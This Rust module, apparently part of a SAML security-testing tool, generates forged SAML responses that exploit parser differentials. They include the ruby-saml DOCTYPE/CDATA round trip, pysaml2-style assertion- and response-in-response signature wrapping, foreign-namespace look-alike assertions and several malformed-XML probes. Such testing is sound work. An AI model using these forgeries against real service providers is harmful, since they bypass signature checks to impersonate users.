//! Parser differentials: documents two parsers read differently.

use crate::bytes::{after_start_tag, attr_value, before_end_tag, insert, splice, Doc};
use crate::family::{evil_id, forge_document, forged, Parts};
use crate::forge::{Forge, Forged, Skip};
use saml_protocol::DSIG_NS;

/// The DOCTYPE quote/comment round trip (ruby-saml CVE-2025-25291): a parser that honours the
/// single-quoted SYSTEM literal sees the forged Response; one that reads a re-serialised copy
/// (the literal re-quoted with `"`) sees the original inside what was a CDATA section.
pub fn doctype_round_trip(f: &Forge) -> Result<Forged, Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    let doc = Doc::parse(seed)?;
    let end = before_end_tag(doc.src, doc.root());
    let (forged_xml, swap) = forge_document(&doc);
    let forged_doc = Doc::parse_built(&forged_xml)?;
    let forged_end = before_end_tag(&forged_xml, forged_doc.root());
    let xml = format!(
        "<!DOCTYPE response SYSTEM 'x\"><!--'>{}<![CDATA[-->{}<!--]]>-->{}",
        &forged_xml[..forged_end],
        &doc.src[..end],
        &doc.src[end..]
    );
    forged(xml, swap)
}

/// A benign internal DOCTYPE before the signed response (no entities): the signature stays
/// valid; an SP should refuse DTDs outright (defence in depth since CVE-2018-0486).
pub fn doctype_benign(f: &Forge) -> Result<Forged, Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    let doc = Doc::parse(seed)?;
    let name = doc.root().tag_name().name();
    Ok(Forged::same_identity(format!(
        "<!DOCTYPE {name} [ ]>{seed}"
    )))
}

/// Text after the root element: not well-formed (XML 1.0 §2.1); a recovering parser reads
/// the IdP's own response regardless.
pub fn trailing_content(f: &Forge) -> Result<Forged, Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    Doc::parse(seed)?;
    Ok(Forged::same_identity(format!("{seed}trailing garbage")))
}

/// The Response start tag repeats its `Version` attribute: not well-formed (XML 1.0 §3.1,
/// "Unique Att Spec").
pub fn duplicate_attribute(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let root = doc.root();
    let version = root
        .attributes()
        .find(|a| a.name() == "Version" && a.namespace().is_none())
        .ok_or_else(|| Skip::NotApplicable("the seed's Response has no Version".into()))?;
    let end = version.range().end;
    Ok(Forged::same_identity(splice(
        doc.src,
        vec![insert(end, " Version=\"2.0\"")],
    )))
}

/// The root element's end tag is missing: not well-formed; a recovering parser closes it.
pub fn unclosed_root(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let root = doc.root();
    let end = before_end_tag(doc.src, root);
    Ok(Forged::same_identity(splice(
        doc.src,
        vec![(end..root.range().end, String::new())],
    )))
}

/// The namespace a foreign look-alike element is put in.
const FOREIGN_NS: &str = "urn:oasis:names:tc:SAML:2.0:assertion:not";

/// A forged Assertion (new ID, target identity) whose own element is in a foreign namespace,
/// before the signed one; its children keep the SAML namespace. A consumer that finds the
/// Assertion by local name (`//*[local-name()='Assertion']`, `getElementsByTagName`) reads
/// it, while a namespace-aware verifier checks the real one.
pub fn foreign_namespace_assertion(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
    let qname = crate::bytes::qualified_name(doc.src, p.assertion);
    let qname_end = 1 + qname.len();
    let close = format!("</{qname}>");
    let body_end = evil
        .rfind(&close)
        .ok_or_else(|| Skip::Failed("the forged Assertion has no end tag".into()))?;
    let foreign = format!(
        "<foreign:Assertion xmlns:foreign=\"{FOREIGN_NS}\"{}</foreign:Assertion>",
        &evil[qname_end..body_end]
    );
    forged(
        p.splice_unsigned_response(vec![insert(p.assertion.range().start, foreign)]),
        swap,
    )
}

/// pysaml2 CVE-2021-21238's shape: a forged Assertion (new ID) whose first child is the signed
/// original (schema-invalid), followed by its own Issuer, a copy of the Signature whose
/// Reference names the forged ID (its values no longer match), and the forged Subject. A
/// verifier that checks "the first Signature under the element" verifies the original; a
/// reader takes the outer Assertion.
pub fn assertion_in_assertion(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let evil = evil_id(p.assertion_id());
    let id = attr_value(p.assertion, "ID")
        .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
    let uri = sig
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
        .and_then(|r| attr_value(r, "URI"))
        .ok_or_else(|| Skip::NotApplicable("the Signature has no Reference URI".into()))?;
    let a = p.assertion.range();
    let (mut edits, swap) =
        crate::identity::rewrite_edits(&doc, a.clone(), &crate::identity::forger(&doc));
    if swap.forged.is_empty() {
        return Err(Skip::NotApplicable(
            "the Assertion carries no identity value to forge".into(),
        ));
    }
    edits.push((id, evil.clone()));
    edits.push((uri, format!("#{evil}")));
    edits.push(insert(
        after_start_tag(doc.src, p.assertion),
        doc.outer(p.assertion),
    ));
    let outer = crate::family::cut(doc.src, a.clone(), edits);
    forged(p.splice_unsigned_response(vec![(a, outer)]), swap)
}

/// CVE-2021-21238's Response shape (pysaml2's second fix fixture,
/// `signed-xsw-response-in-response-first-sig.xml`): a forged Response (new ID, forged
/// Assertion with a new ID and no Signature) whose first child is the IdP-signed original,
/// then its Issuer, a copy of the Signature whose Reference names the forged ID, and the
/// rest. A verifier that checks "the first Signature under the element" verifies the
/// original's; a reader takes the outer Response's Assertion.
pub fn response_in_response(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_response_sig()?;
    let id = attr_value(p.root, "ID")
        .ok_or_else(|| Skip::NotApplicable("the Response has no ID".into()))?;
    let evil = evil_id(p.root.attribute("ID").unwrap_or_default());
    let uri = sig
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
        .and_then(|r| attr_value(r, "URI"))
        .ok_or_else(|| Skip::NotApplicable("the Signature has no Reference URI".into()))?;
    let (mut edits, swap) =
        crate::identity::rewrite_edits(&doc, p.assertion.range(), &crate::identity::forger(&doc));
    if swap.forged.is_empty() {
        return Err(Skip::NotApplicable(
            "the Assertion carries no identity value to forge".into(),
        ));
    }
    // The forged Assertion is unsigned and has an ID of its own (the original's is taken).
    if let Some(s) = p.assertion_sig {
        edits.push((s.range(), String::new()));
    }
    if let Some(a) = attr_value(p.assertion, "ID") {
        edits.push((a, evil_id(p.assertion_id())));
    }
    edits.push((uri, format!("#{evil}")));
    edits.push((id, evil));
    edits.push(insert(after_start_tag(doc.src, p.root), doc.outer(p.root)));
    forged(splice(doc.src, edits), swap)
}

/// The IdP's response (UTF-8 bytes) under an XML declaration that says UTF-16: a fatal error
/// (XML 1.0 §4.3.3); a parser that ignores the label reads the bytes regardless.
pub fn mislabelled_encoding(f: &Forge) -> Result<Forged, Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    Doc::parse(seed)?;
    Ok(Forged::same_identity(format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>{seed}"
    )))
}
